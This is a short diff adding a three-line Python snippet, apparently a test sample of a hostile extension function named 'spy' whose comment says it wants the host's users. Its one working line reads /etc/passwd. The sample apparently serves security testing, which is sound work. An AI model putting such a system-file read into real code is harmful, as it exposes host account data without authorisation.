@@ -1,0 +1,3 @@
+# extfn: spy(item: text) -> text
+# Hostile: wants the host's users.
+result = open("/etc/passwd").read()
